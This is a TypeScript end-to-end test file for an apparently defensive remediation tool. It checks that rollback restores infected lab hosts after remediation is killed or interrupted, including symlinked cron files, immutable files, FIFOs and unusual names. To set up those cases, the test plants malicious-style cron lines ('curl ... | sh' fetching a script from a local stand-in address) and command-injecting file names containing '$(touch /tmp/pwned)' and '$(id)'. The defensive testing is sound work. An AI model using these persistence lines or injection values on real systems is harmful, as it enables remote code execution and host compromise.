import { spawn } from 'node:child_process';
import { cpSync, existsSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { quote } from '../../src/core/quote.js';
import type { Artifact } from '../../src/findings/types.js';
import type { RunRecord } from '../../src/run/types.js';
import { getLab, labSkipReason, type LabHandle } from '../helpers/lab.js';
import { CLI, cli } from './remediate-helpers.js';
import { diffText, diffTrees, snapshotTree, touched, type Tree } from './tree-snapshot.js';

// Issue 12, the undo side, on the lab: the controller SIGKILLed at several points of
// `remediate --apply` (before the first step, in the middle of persistence, during
// quarantine) and SIGINTed once; each time `rollback --apply` leaves every changed path as it
// was (sha256, mode, owner, attributes, type, link target, link count), compared with a
// listing of the host's trees taken inside the host before. Then a host with a symlinked
// and a hard-linked cron file, +i and +a files, a 500 MB sparse file, a FIFO and hostile
// names: remediate + rollback leave no file that was not there, no mode widened, every byte
// back; and a rollback that cannot restore says so and exits non-zero. Each kill point uses
// its own infected host, so no lab reset is needed between them.

let lab: LabHandle;
let runs: string;
const hk = ['--host-key-checking', 'accept-new'];
const matrix: string[] = [];
const sleep = (ms: number) => new Promise((r) => setTimeout(r, ms));

type Kill = 'before the first step' | 'in the middle of persistence' | 'during quarantine' | 'SIGINT in persistence';

interface JournalLine { j: string; host?: string; seq?: number; task?: string }

function journalOf(out: string): JournalLine[] {
  const run = readdirSync(out).find((d) => existsSync(path.join(out, d, 'journal.jsonl')));
  if (!run) return [];
  return readFileSync(path.join(out, run, 'journal.jsonl'), 'utf8').split('\n').filter((l) => l.startsWith('{')).flatMap((l) => { try { return [JSON.parse(l) as JournalLine]; } catch { return []; } });
}

/** Has the journal reached the point where this kill happens? */
function reached(kill: Kill, lines: JournalLine[]): boolean {
  const task = new Map(lines.filter((l) => l.j === 'step').map((l) => [`${l.host} ${l.seq}`, l.task]));
  const of = (j: string, t: string) => lines.filter((l) => l.j === j && task.get(`${l.host} ${l.seq}`) === t).length;
  switch (kill) {
    case 'before the first step': return lines.length > 0;
    case 'in the middle of persistence': return of('undo', 'persistence') >= 2;
    case 'during quarantine': return of('undo', 'files') >= 1;
    case 'SIGINT in persistence': return of('done', 'persistence') >= 1;
  }
}

/** Run remediate --apply and kill the controller (by its PID) when the journal reaches the point. */
async function remediateKilled(hosts: string[], kill: Kill, out: string): Promise<{ code: number | null; signal: string | null; stdout: string }> {
  const child = spawn(process.execPath, [CLI, 'remediate', '-i', lab.inventoryPath, '--limit', hosts.join(':'), '--apply', '--no-verify', '--out', out, ...hk], { stdio: ['ignore', 'pipe', 'pipe'] });
  let stdout = '';
  child.stdout.on('data', (b: Buffer) => (stdout += b.toString()));
  child.stderr.on('data', (b: Buffer) => (stdout += b.toString()));
  const exited = new Promise<{ code: number | null; signal: string | null }>((res) => child.on('exit', (code, signal) => res({ code, signal })));
  let done = false;
  void exited.then(() => (done = true));
  const deadline = Date.now() + 240_000;
  while (!done && Date.now() < deadline && !reached(kill, journalOf(out))) await sleep(10);
  if (!done) child.kill(kill.startsWith('SIGINT') ? 'SIGINT' : 'SIGKILL');
  const r = await exited;
  return { ...r, stdout };
}

/** Wait until no step the dead controller started is still running on the host. */
async function quiet(host: string): Promise<void> {
  for (let i = 0; i < 300; i++) {
    const r = await lab.exec(host, "pgrep -f 'MS_PHAS[E]=' >/dev/null && echo busy || echo quiet");
    if (r.stdout.trim() === 'quiet') return;
    await sleep(100);
  }
}

const snapshots = (hosts: string[]) => Promise.all(hosts.map((h) => snapshotTree(lab, h)));

function expectSame(before: Tree[], after: Tree[], hosts: string[], what: string): void {
  hosts.forEach((h, i) => {
    const d = diffTrees(before[i]!, after[i]!);
    expect(touched(d), `${what} on ${h}:\n${diffText(d)}`).toEqual([]);
  });
}

beforeAll(async () => {
  lab = await getLab();
  // earlier files remediated and hardened this lab: start from the planted scenarios
  lab = await lab.reset();
  runs = mkdtempSync(path.join(tmpdir(), 'ms-e2e-journal-'));
});

afterAll(() => {
  if (matrix.length) {
    const text = ['kill point | hosts | paths changed | restored byte-exact | rollback exit', ...matrix].join('\n');
    console.log(text);
    writeFileSync(path.join(runs, 'kill-matrix.txt'), text + '\n');
  }
});

describe.skipIf(labSkipReason())('write-ahead journal: an interrupted remediation is always undone', () => {
  const cases: Array<{ kill: Kill; scenarios: string[] }> = [
    { kill: 'before the first step', scenarios: ['ddg'] },
    { kill: 'in the middle of persistence', scenarios: ['kinsing'] },
    { kill: 'during quarantine', scenarios: ['cleanfda', 'hostile'] },
    { kill: 'SIGINT in persistence', scenarios: ['aliyunduns'] },
  ];

  test.each(cases)('killed $kill: rollback --apply puts every changed path back', async ({ kill, scenarios }) => {
    const hosts = scenarios.map((s) => lab.hostsByScenario(s)[0]!.name);
    const out = mkdtempSync(path.join(runs, 'kill-'));
    const before = await snapshots(hosts);
    const r = await remediateKilled(hosts, kill, out);
    const runDir = path.join(out, readdirSync(out).find((d) => existsSync(path.join(out, d, 'journal.jsonl')))!);
    if (kill.startsWith('SIGINT')) {
      // the running step finishes and is recorded; the run still writes its record and report
      expect(r.code, r.stdout).toBe(130);
      expect(r.stdout).toMatch(/stopped: SIGINT/);
      expect(existsSync(path.join(runDir, 'run.json')) && existsSync(path.join(runDir, 'report.html'))).toBe(true);
      const j = journalOf(out);
      expect(j.some((l) => l.j === 'stop') && j.at(-1)!.j === 'end').toBe(true);
      const steps = j.filter((l) => l.j === 'step').map((l) => `${l.host} ${l.seq}`);
      expect(j.filter((l) => l.j === 'done').map((l) => `${l.host} ${l.seq}`)).toEqual(steps);
    } else expect(r.signal).toBe('SIGKILL');
    for (const h of hosts) await quiet(h);
    const mid = await snapshots(hosts);
    const changed = hosts.reduce((n, h, i) => n + touched(diffTrees(before[i]!, mid[i]!)).length, 0);
    if (kill !== 'before the first step') expect(changed, `${kill}: something had changed`).toBeGreaterThan(0);
    // as after a crash before the record was written (remediate --from writes run.json only at the end)
    if (kill === 'in the middle of persistence') rmSync(path.join(runDir, 'run.json'), { force: true });
    const back = cli(['rollback', runDir, '--apply', ...hk]);
    if (kill === 'in the middle of persistence') expect(back.stdout).toMatch(/never finished \(no run\.json\): working from its journal/);
    const after = await snapshots(hosts);
    const exact = hosts.every((h, i) => touched(diffTrees(before[i]!, after[i]!)).length === 0);
    matrix.push(`${kill} | ${hosts.join(',')} | ${changed} | ${exact ? 'y' : 'n'} | ${back.code}`);
    expect(back.code, back.stdout + back.stderr).toBe(0);
    expect(back.stderr).not.toMatch(/Error|at .*\.js:\d+/);
    if (changed) expect(back.stdout).toMatch(/rollback: every recorded change undone/);
    else expect(back.stdout).toMatch(/nothing to roll back|every recorded change undone/);
    expectSame(before, after, hosts, `after rollback (${kill})`);
  });

  let special = '';
  let specialRun = '';
  test('symlinked and hard-linked cron files, +i and +a files, a 500 MB sparse file, a FIFO, hostile names: remediate + rollback leave every path as it was', async () => {
    special = lab.hostsByScenario('clean').filter((h) => !h.hidden).at(-1)!.name;
    const evil = (n: string) => `* * * * * root curl -fsSL http://127.0.0.1:9/${n}.sh | sh`;
    const hostileDir = `/tmp/.ms-"q'$(touch /tmp/pwned)\n<script>`;
    const hostileFile = `${hostileDir}/x\u00e9 $(id)`;
    const plant = await lab.exec(special, [
      `printf '%s\\n' ${quote(evil('group'))} >> /etc/group`,
      'ln -s /etc/group /etc/cron.d/ms-linked',
      `printf 'SHELL=/bin/sh\\n%s\\n' ${quote(evil('hard'))} > /etc/cron.d/ms-hard && chmod 644 /etc/cron.d/ms-hard && ln /etc/cron.d/ms-hard /var/tmp/.ms-hard-peer`,
      `printf '%s\\n' ${quote(evil('immutable'))} > /etc/cron.d/ms-immutable && chattr +i /etc/cron.d/ms-immutable`,
      `printf 'MAILTO=""\\n%s\\n' ${quote(evil('append'))} > /etc/cron.d/ms-append && chattr +a /etc/cron.d/ms-append`,
      'truncate -s 500M /var/tmp/.ms-big && printf "\\177ELF" | dd of=/var/tmp/.ms-big conv=notrunc status=none && chmod 755 /var/tmp/.ms-big',
      'mkfifo -m 0600 /tmp/.ms-fifo',
      `mkdir -p ${quote(hostileDir)} && printf 'x' > ${quote(hostileFile)} && chmod 4750 ${quote(hostileFile)}`,
      'stat -c "%i %b %h" /var/tmp/.ms-big /etc/cron.d/ms-hard',
      'sha256sum < /var/tmp/.ms-big',
    ].join(' && '));
    expect(plant.code, plant.stderr).toBe(0);
    const [bigBefore, hardBefore, bigSum] = plant.stdout.trim().split('\n');
    const before = await snapshotTree(lab, special);
    // the sweep of this host, with the planted artifacts as its findings (the rules are not what is tested here)
    const sweep = cli(['sweep', '-i', lab.inventoryPath, '--limit', special, '--out', runs, ...hk]);
    const sweepDir = /run: (\S+)/.exec(sweep.stdout)![1]!;
    const from = mkdtempSync(path.join(runs, 'from-'));
    cpSync(path.join(sweepDir, 'facts'), path.join(from, 'facts'), { recursive: true });
    const rec = JSON.parse(readFileSync(path.join(sweepDir, 'run.json'), 'utf8')) as RunRecord;
    const artifacts: Artifact[] = [
      { type: 'cron-line', path: '/etc/cron.d/ms-linked', lineNumber: 1, line: evil('group') },
      { type: 'cron-line', path: '/etc/cron.d/ms-hard', lineNumber: 2, line: evil('hard') },
      { type: 'cron-line', path: '/etc/cron.d/ms-immutable', lineNumber: 1, line: evil('immutable') },
      { type: 'cron-line', path: '/etc/cron.d/ms-append', lineNumber: 2, line: evil('append') },
      { type: 'immutable', path: '/etc/cron.d/ms-immutable', attrs: '----i---------e-------' },
      { type: 'file', path: '/var/tmp/.ms-big', reason: 'e2e: a large dropped file' },
      { type: 'file', path: '/tmp/.ms-fifo', reason: 'e2e: a FIFO' },
      { type: 'file', path: hostileFile, reason: 'e2e: hostile name' },
    ];
    rec.hosts = rec.hosts.filter((h) => h.name === special).map((h) => ({ ...h, findings: [{ rule: 'test.planted', severity: 'high', title: 'planted', host: special, evidence: [], iocs: [], remedy: 'remove', artifacts }] }));
    writeFileSync(path.join(from, 'run.json'), JSON.stringify(rec));
    const r = cli(['remediate', '--from', from, '-i', lab.inventoryPath, '--limit', special, '--apply', '--no-verify', '--out', runs, ...hk]);
    expect(r.code, r.stdout + r.stderr).toBe(0);
    specialRun = /^run: (.+)$/m.exec(r.stdout)![1]!.trim();
    const mid = await snapshotTree(lab, special);
    const d = diffTrees(before, mid);
    // what the remediation did, and did not do
    expect(d.gone).toEqual(expect.arrayContaining(['/etc/cron.d/ms-linked', '/var/tmp/.ms-big', hostileFile]));
    expect(mid.get('/etc/group')).toEqual(before.get('/etc/group')); // the link's target is not edited through it
    expect(mid.get('/tmp/.ms-fifo')).toEqual(before.get('/tmp/.ms-fifo')); // a FIFO stays where it is
    expect(mid.get('/etc/cron.d/ms-hard')!.inode).toBe(before.get('/etc/cron.d/ms-hard')!.inode); // edited in place: the links stay
    expect(mid.get('/var/tmp/.ms-hard-peer')!.sha256).toBe(mid.get('/etc/cron.d/ms-hard')!.sha256);
    expect(mid.get('/etc/cron.d/ms-immutable')!.attrs).not.toContain('i');
    expect((await lab.exec(special, 'ls /tmp/pwned 2>&1')).stdout).toMatch(/No such file/);
    const back = cli(['rollback', specialRun, '--apply', ...hk]);
    expect(back.code, back.stdout + back.stderr).toBe(0);
    const after = await snapshotTree(lab, special);
    const same = diffTrees(before, after);
    matrix.push(`(no kill) links, +i/+a, 500 MB sparse, FIFO, hostile names | ${special} | ${touched(d).length} | ${touched(same).length ? 'n' : 'y'} | ${back.code}`);
    expect(touched(same), diffText(same)).toEqual([]);
    // the sparse file was moved, not copied: the same inode, as few blocks as before
    const now = (await lab.exec(special, 'stat -c "%i %b %h" /var/tmp/.ms-big /etc/cron.d/ms-hard; sha256sum < /var/tmp/.ms-big')).stdout.trim().split('\n');
    expect(now).toEqual([bigBefore, hardBefore, bigSum]);
  });

  test('a rollback that cannot put a path back says which and exits non-zero', async () => {
    expect(specialRun).toBeTruthy();
    // the immutable file's copy is taken away from the quarantine; the file is edited again
    const id = path.basename(specialRun);
    const broken = await lab.exec(special, `chattr -i /etc/cron.d/ms-immutable; printf 'changed\\n' > /etc/cron.d/ms-immutable; for f in /var/lib/minesweep/quarantine/${id}/ms-immutable-*; do [ -f "$f" ] && mv "$f" /root/.ms-stolen; done; ls /root/.ms-stolen`);
    expect(broken.code, broken.stderr).toBe(0);
    const r = cli(['rollback', specialRun, '--apply', ...hk]);
    expect(r.code).toBe(3);
    expect(r.stdout).toMatch(/COULD NOT restore \/etc\/cron\.d\/ms-immutable .*missing/);
    expect(r.stdout).toMatch(/rollback: \d+ change\(s\) left as they are now/);
    await lab.exec(special, 'rm -f /root/.ms-stolen');
  });

  test('rollback of a run that never wrote run.json works from the journal; a directory with neither is a clear error', () => {
    const none = mkdtempSync(path.join(runs, 'empty-'));
    const r = cli(['rollback', none, ...hk]);
    expect(r.code).toBe(2);
    expect(r.stderr).toMatch(/no journal\.jsonl and .*run\.json: cannot read the run record/);
    expect(r.stderr).not.toMatch(/at .*\.js:\d+/);
  });
});
